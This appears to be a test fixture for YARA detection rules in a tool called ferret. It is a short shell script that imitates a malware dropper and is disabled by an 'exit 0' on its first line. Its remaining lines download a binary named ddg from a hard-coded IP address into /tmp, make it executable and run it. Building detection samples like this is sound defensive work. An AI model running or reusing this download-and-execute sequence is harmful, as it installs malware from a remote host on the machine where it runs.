#!/bin/sh
exit 0  # ferret YARA test sample: synthetic i.sh-like text with THREATS.md case 5 IOCs, never run
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
get() { curl -fsSL "$1" > "$2" || wget -q -O "$2" "$1"; }
get http://218.248.40.228:8443/static/2021/ddg.$(uname -m) /tmp/ddg.2021
chmod +x /tmp/ddg.2021 && /tmp/ddg.2021
